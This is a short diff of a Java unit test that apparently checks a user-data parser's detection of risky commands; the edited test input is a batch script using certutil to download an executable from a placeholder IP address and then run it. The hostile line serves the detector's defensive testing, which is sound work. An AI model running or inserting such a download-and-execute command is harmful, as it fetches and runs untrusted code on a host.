@@ -229,7 +229,7 @@ class UserDataTest {
         assertThat(tags.get(0).arguments()).startsWith("powershell", "-Command");
         assertThat(tags.get(0).command().pipesIntoInterpreter()).isTrue();
         var batch =
-                directives("<script>\r\ncertutil -urlcache -f http://203.0.113.3/a.exe a.exe\r\na.exe\r\n</script>");
+                directives("<script>\r\ncertutil -urlcache -f http://203.0.113.3/a.exe a.exe\r\n.\\a.exe\r\n</script>");
         assertThat(batch.get(0).command().downloadsAndExecutes()).isTrue();
         var tasks = directives("""
                 version: 1.1
